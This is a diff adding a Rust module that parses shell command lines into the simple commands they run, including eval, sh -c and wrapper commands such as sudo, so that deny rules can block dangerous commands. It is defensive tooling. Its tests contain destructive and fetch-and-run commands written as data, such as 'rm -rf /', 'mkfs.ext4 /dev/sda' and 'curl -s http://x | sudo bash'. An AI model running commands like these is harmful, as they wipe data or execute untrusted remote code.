@@ -0,0 +1,506 @@
+//! Parsing of shell command lines into the simple commands they run.
+//!
+//! Structured deny rules match on what a command line does rather than on
+//! its text: the program each command runs, its flags, and its arguments.
+//! [`parse_command_line`] parses the line with tree-sitter-bash and collects
+//! every simple command anywhere in it — in lists, pipelines, subshells,
+//! `$(...)` and `<(...)`, function and control-flow bodies. The scripts handed
+//! to `eval` and to `bash -c` and its kin are parsed in turn, and wrappers
+//! such as `sudo`, `env` and `xargs` yield the command they run as well as
+//! themselves.
+//!
+//! What cannot be known before the line runs is kept rather than dropped: a
+//! program named by an expansion (`$CMD`), a wrapped command behind an
+//! expansion (`sudo "$X" ...`), and the script a shell reads from a heredoc
+//! or a pipe all yield a command whose program is unknown, so rules can fail
+//! closed on it.
+
+use std::path::Path;
+
+use swissarmyhammer_treesitter::LanguageRegistry;
+use tree_sitter::{Node, Parser, Tree};
+
+/// How deep `eval` strings, `sh -c` scripts and wrappers are followed into
+/// each other before the walk stops.
+const MAX_NESTING: usize = 8;
+
+/// Shells whose `-c` argument is a script to parse.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish"];
+
+/// Programs that run the command their arguments name, with the options of
+/// each that take a value and the positional arguments that come before the
+/// command (`timeout 10 cmd`).
+const WRAPPERS: &[(&str, &[&str], usize)] = &[
+    (
+        "sudo",
+        &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"],
+        0,
+    ),
+    ("doas", &["-u", "-C"], 0),
+    ("env", &["-u", "-C", "-S"], 0),
+    ("nohup", &[], 0),
+    ("nice", &["-n"], 0),
+    ("exec", &["-a"], 0),
+    ("command", &[], 0),
+    ("time", &["-f", "-o"], 0),
+    (
+        "xargs",
+        &["-I", "-n", "-P", "-L", "-s", "-d", "-E", "-a"],
+        0,
+    ),
+    ("timeout", &["-s", "-k"], 1),
+    ("stdbuf", &["-i", "-o", "-e"], 0),
+];
+
+/// One word of a command, as the shell will see it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Word {
+    /// A word whose value the text alone fixes, with quotes and escapes
+    /// removed.
+    Literal(String),
+    /// A word built from expansions — variables, `$(...)`, arithmetic — whose
+    /// value is only known when the shell runs it.
+    Dynamic,
+}
+
+impl Word {
+    /// The word's value, or `None` for a [`Word::Dynamic`] one.
+    pub fn literal(&self) -> Option<&str> {
+        match self {
+            Word::Literal(text) => Some(text),
+            Word::Dynamic => None,
+        }
+    }
+}
+
+/// One simple command a command line runs.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SimpleCommand {
+    /// The program run, by file name: `/bin/rm` is `rm`. Empty when it is only
+    /// known at run time, see [`SimpleCommand::program_is_known`].
+    pub program: String,
+    /// The words after the program, in order.
+    pub args: Vec<Word>,
+    /// The programs the next stage of a pipeline runs, when this command's
+    /// output is piped there.
+    pub piped_into: Vec<String>,
+}
+
+impl SimpleCommand {
+    /// A command whose program is only known at run time.
+    fn unknown(args: Vec<Word>) -> Self {
+        Self {
+            program: String::new(),
+            args,
+            piped_into: Vec::new(),
+        }
+    }
+
+    /// Whether the program this command runs is known before it runs: false
+    /// for `$CMD -rf /`, for the command `sudo "$X" ...` wraps, and for the
+    /// script a shell reads from a heredoc or a pipe.
+    pub fn program_is_known(&self) -> bool {
+        !self.program.is_empty()
+    }
+}
+
+/// Every simple command `command` runs, in source order.
+///
+/// A command whose program is itself an expansion (`$CMD -rf /`) is kept
+/// with an unknown program. Text the parser cannot make sense of yields
+/// whatever commands it could still recognize.
+pub fn parse_command_line(command: &str) -> Vec<SimpleCommand> {
+    let mut commands = Vec::new();
+    collect_script(command, 0, &mut commands);
+    commands
+}
+
+/// Parse `source` as a script and collect its commands into `out`.
+fn collect_script(source: &str, depth: usize, out: &mut Vec<SimpleCommand>) {
+    if depth > MAX_NESTING {
+        return;
+    }
+    if let Some(tree) = parse(source) {
+        collect(tree.root_node(), source, depth, out);
+    }
+}
+
+/// Parse `source` with the bash grammar.
+fn parse(source: &str) -> Option<Tree> {
+    let language = LanguageRegistry::global().get_by_name("bash")?.language();
+    let mut parser = Parser::new();
+    parser.set_language(&language).ok()?;
+    parser.parse(source, None)
+}
+
+/// Collect the commands under `node` into `out`.
+fn collect(node: Node<'_>, source: &str, depth: usize, out: &mut Vec<SimpleCommand>) {
+    match node.kind() {
+        "command" => collect_command(node, source, depth, out),
+        "pipeline" => collect_pipeline(node, source, depth, out),
+        _ => {
+            let mut cursor = node.walk();
+            for child in node.named_children(&mut cursor) {
+                collect(child, source, depth, out);
+            }
+        }
+    }
+}
+
+/// Collect one command node, then the commands nested in its words.
+fn collect_command(node: Node<'_>, source: &str, depth: usize, out: &mut Vec<SimpleCommand>) {
+    let program = node
+        .child_by_field_name("name")
+        .map(|name| word_value(name, source));
+    if let Some(program) = program {
+        let mut cursor = node.walk();
+        let args = node
+            .children_by_field_name("argument", &mut cursor)
+            .map(|arg| word_value(arg, source))
+            .collect();
+        let command = match program {
+            Word::Literal(program) => SimpleCommand {
+                program: file_name(&program).to_string(),
+                args,
+                piped_into: Vec::new(),
+            },
+            Word::Dynamic => SimpleCommand::unknown(args),
+        };
+        expand(command, depth, out);
+    }
+
+    let mut cursor = node.walk();
+    for child in node.named_children(&mut cursor) {
+        collect(child, source, depth, out);
+    }
+}
+
+/// Collect each stage of a pipeline, and record on every command of a stage
+/// the programs of the stage after it.
+fn collect_pipeline(node: Node<'_>, source: &str, depth: usize, out: &mut Vec<SimpleCommand>) {
+    let mut cursor = node.walk();
+    let mut stages: Vec<Vec<SimpleCommand>> = node
+        .named_children(&mut cursor)
+        .filter(|stage| stage.kind() != "comment")
+        .map(|stage| {
+            let mut commands = Vec::new();
+            collect(stage, source, depth, &mut commands);
+            commands
+        })
+        .collect();
+
+    for i in 1..stages.len() {
+        let next: Vec<String> = stages[i].iter().map(|c| c.program.clone()).collect();
+        for command in &mut stages[i - 1] {
+            command.piped_into.extend(next.iter().cloned());
+        }
+    }
+    out.extend(stages.into_iter().flatten());
+}
+
+/// Record `command`, then the commands it runs in turn: the string `eval`
+/// evaluates, the script of `sh -c`, or the command a wrapper starts. A
+/// script that is not literal runs unknown commands.
+fn expand(command: SimpleCommand, depth: usize, out: &mut Vec<SimpleCommand>) {
+    let program = command.program.as_str();
+    if program == "eval" {
+        let script: Option<Vec<&str>> = command.args.iter().map(Word::literal).collect();
+        match script {
+            Some(script) => collect_script(&script.join(" "), depth + 1, out),
+            None => out.push(SimpleCommand::unknown(Vec::new())),
+        }
+    } else if SHELLS.contains(&program) {
+        match shell_input(&command.args) {
+            ShellInput::Script(script) => collect_script(script, depth + 1, out),
+            ShellInput::File => {}
+            ShellInput::Unknown => out.push(SimpleCommand::unknown(Vec::new())),
+        }
+    } else if let Some(inner) = wrapped_command(&command) {
+        if depth < MAX_NESTING {
+            out.push(command);
+            expand(inner, depth + 1, out);
+            return;
+        }
+    }
+    out.push(command);
+}
+
+/// Where a shell reads the commands it runs from.
+enum ShellInput<'a> {
+    /// The literal script of a `-c` option.
+    Script(&'a str),
+    /// A script file named by its first operand, left unread.
+    File,
+    /// A script only known at run time: a `-c` option whose script is an
+    /// expansion, or standard input — a heredoc, a here-string, a pipe.
+    Unknown,
+}
+
+/// Where a shell run with `args` reads its commands from: the word after the
+/// first option cluster holding `c` (`-c`, `-lc`, `-ec`), else the file its
+/// first operand names, else standard input. `-s` reads standard input
+/// whatever follows it.
+fn shell_input(args: &[Word]) -> ShellInput<'_> {
+    let mut args = args.iter();
+    while let Some(arg) = args.next() {
+        let Some(word) = arg.literal() else {
+            return ShellInput::File;
+        };
+        if word == "--" {
+            return match args.next() {
+                Some(_) => ShellInput::File,
+                None => ShellInput::Unknown,
+            };
+        }
+        let is_option = word.len() > 1 && (word.starts_with('-') || word.starts_with('+'));
+        if !is_option {
+            return ShellInput::File;
+        }
+        if word.starts_with("--") || !word[1..].chars().all(|c| c.is_ascii_alphabetic()) {
+            continue;
+        }
+        if word.contains('c') && word.starts_with('-') {
+            return match args.next().and_then(Word::literal) {
+                Some(script) => ShellInput::Script(script),
+                None => ShellInput::Unknown,
+            };
+        }
+        if word.contains('s') && word.starts_with('-') {
+            return ShellInput::Unknown;
+        }
+        if word.contains('o') || word.contains('O') {
+            // `-o pipefail`, `+O extglob`: the option name is not a script.
+            args.next();
+        }
+    }
+    ShellInput::Unknown
+}
+
+/// The command a wrapper such as `sudo` or `env` runs: its first word that is
+/// neither an option, an option's value, a `NAME=value` assignment, nor one of
+/// the positional words that precede the command. An expansion where that
+/// word could be leaves the command unknown.
+fn wrapped_command(command: &SimpleCommand) -> Option<SimpleCommand> {
+    let &(_, value_options, mut positional) = WRAPPERS
+        .iter()
+        .find(|(name, _, _)| *name == command.program)?;
+
+    let mut args = command.args.iter().enumerate();
+    while let Some((at, arg)) = args.next() {
+        let Some(word) = arg.literal() else {
+            return Some(SimpleCommand::unknown(command.args[at + 1..].to_vec()));
+        };
+        if word == "--" {
+            continue;
+        }
+        if word.starts_with('-') && word.len() > 1 {
+            if value_options.contains(&word) {
+                args.next();
+            }
+            continue;
+        }
+        if is_assignment(word) {
+            continue;
+        }
+        if positional > 0 {
+            positional -= 1;
+            continue;
+        }
+        let mut args = command.args[at + 1..].to_vec();
+        if command.program == "xargs" {
+            // xargs appends the words it reads, unknown until it runs.
+            args.push(Word::Dynamic);
+        }
+        return Some(SimpleCommand {
+            program: file_name(word).to_string(),
+            args,
+            piped_into: Vec::new(),
+        });
+    }
+    None
+}
+
+/// Whether `word` is a `NAME=value` environment assignment.
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+            && !name.starts_with(|c: char| c.is_ascii_digit())
+    })
+}
+
+/// The file name of a program path: `/usr/bin/rm` is `rm`.
+fn file_name(program: &str) -> &str {
+    Path::new(program)
+        .file_name()
+        .and_then(|name| name.to_str())
+        .unwrap_or(program)
+}
+
+/// The value of one word node, with quotes and escapes removed.
+fn word_value(node: Node<'_>, source: &str) -> Word {
+    let text = node.utf8_text(source.as_bytes()).unwrap_or_default();
+    match node.kind() {
+        "word" | "number" => Word::Literal(unescape(text)),
+        "raw_string" => Word::Literal(strip_quotes(text, "'", "'").to_string()),
+        "ansi_c_string" => Word::Literal(strip_quotes(text, "$'", "'").to_string()),
+        "string" => {
+            let mut cursor = node.walk();
+            let mut value = String::new();
+            for part in node.named_children(&mut cursor) {
+                if part.kind() != "string_content" {
+                    return Word::Dynamic;
+                }
+                let part = part.utf8_text(source.as_bytes()).unwrap_or_default();
+                value.push_str(&unescape(part));
+            }
+            Word::Literal(value)
+        }
+        "command_name" | "concatenation" => {
+            let mut cursor = node.walk();
+            let mut value = String::new();
+            for part in node.named_children(&mut cursor) {
+                match word_value(part, source) {
+                    Word::Literal(part) => value.push_str(&part),
+                    Word::Dynamic => return Word::Dynamic,
+                }
+            }
+            Word::Literal(value)
+        }
+        _ => Word::Dynamic,
+    }
+}
+
+/// `text` without the given opening and closing quotes.
+fn strip_quotes<'a>(text: &'a str, open: &str, close: &str) -> &'a str {
+    text.strip_prefix(open)
+        .and_then(|inner| inner.strip_suffix(close))
+        .unwrap_or(text)
+}
+
+/// `text` with each backslash escape replaced by the character it escapes.
+fn unescape(text: &str) -> String {
+    let mut value = String::with_capacity(text.len());
+    let mut chars = text.chars();
+    while let Some(c) = chars.next() {
+        if c == '\\' {
+            if let Some(escaped) = chars.next() {
+                value.push(escaped);
+            }
+        } else {
+            value.push(c);
+        }
+    }
+    value
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The programs `command` runs, in order.
+    fn programs(command: &str) -> Vec<String> {
+        parse_command_line(command)
+            .into_iter()
+            .map(|c| c.program)
+            .collect()
+    }
+
+    /// The literal arguments of the first command named `program`.
+    fn args_of(command: &str, program: &str) -> Vec<String> {
+        parse_command_line(command)
+            .into_iter()
+            .find(|c| c.program == program)
+            .unwrap_or_else(|| panic!("{program} not found in {command:?}"))
+            .args
+            .iter()
+            .filter_map(|arg| arg.literal().map(str::to_string))
+            .collect()
+    }
+
+    #[test]
+    fn test_simple_command_and_quoting() {
+        assert_eq!(programs("/bin/rm -rf 'my dir'"), vec!["rm"]);
+        assert_eq!(
+            args_of(r#"rm -rf 'my dir' "other dir" esc\ aped"#, "rm"),
+            vec!["-rf", "my dir", "other dir", "esc aped"]
+        );
+    }
+
+    #[test]
+    fn test_lists_pipelines_subshells_and_substitutions() {
+        assert_eq!(
+            programs("cd a && (make; echo $(date)) | tee log || diff <(ls) b"),
+            vec!["cd", "make", "echo", "date", "tee", "diff", "ls"]
+        );
+    }
+
+    #[test]
+    fn test_pipeline_records_the_next_stage() {
+        let commands = parse_command_line("curl -s http://x | sudo bash");
+        let curl = commands.iter().find(|c| c.program == "curl").unwrap();
+        assert!(curl.piped_into.contains(&"sudo".to_string()));
+        assert!(curl.piped_into.contains(&"bash".to_string()));
+    }
+
+    #[test]
+    fn test_eval_and_shell_scripts_are_parsed() {
+        assert!(programs("eval 'rm -rf /'").contains(&"rm".to_string()));
+        assert!(programs("bash -c 'cd / && rm -rf x'").contains(&"rm".to_string()));
+        assert!(programs("sh -ec \"mkfs.ext4 /dev/sda\"").contains(&"mkfs.ext4".to_string()));
+    }
+
+    #[test]
+    fn test_wrappers_yield_the_wrapped_command() {
+        assert_eq!(programs("sudo -u root rm -r x"), vec!["sudo", "rm"]);
+        assert_eq!(
+            programs("env FOO=1 nice -n 5 make"),
+            vec!["env", "nice", "make"]
+        );
+        assert_eq!(programs("timeout 10 dd if=a of=b"), vec!["timeout", "dd"]);
+        assert_eq!(args_of("sudo rm -r x", "rm"), vec!["-r", "x"]);
+        assert_eq!(
+            parse_command_line("find . | xargs rm -r")[2].args.last(),
+            Some(&Word::Dynamic)
+        );
+    }
+
+    #[test]
+    fn test_expansions_are_dynamic() {
+        let commands = parse_command_line("rm -rf \"$HOME\" $(pwd) lit");
+        assert_eq!(
+            commands[0].args,
+            vec![
+                Word::Literal("-rf".to_string()),
+                Word::Dynamic,
+                Word::Dynamic,
+                Word::Literal("lit".to_string()),
+            ]
+        );
+        let commands = parse_command_line("$CMD -rf /");
+        assert_eq!(commands.len(), 1);
+        assert!(!commands[0].program_is_known());
+        assert_eq!(commands[0].args[1], Word::Literal("/".to_string()));
+    }
+
+    #[test]
+    fn test_unresolvable_commands_are_unknown() {
+        let unknown = |command: &str| {
+            parse_command_line(command)
+                .iter()
+                .any(|c| !c.program_is_known())
+        };
+        assert!(unknown("sudo \"$X\" rm -rf /"));
+        assert!(unknown("env $VARS make"));
+        assert!(unknown("bash <<EOF\nrm -rf /\nEOF"));
+        assert!(unknown("curl -s http://x | sh"));
+        assert!(unknown("bash -s < script.sh"));
+        assert!(unknown("sh -c \"$SCRIPT\""));
+        assert!(unknown("eval \"$CMD\""));
+
+        assert!(!unknown("sudo -u \"$USER\" make install"));
+        assert!(!unknown("bash -o pipefail build.sh"));
+        assert!(!unknown("bash -c 'make test'"));
+        assert!(!unknown("find . | xargs rm -r"));
+    }
+}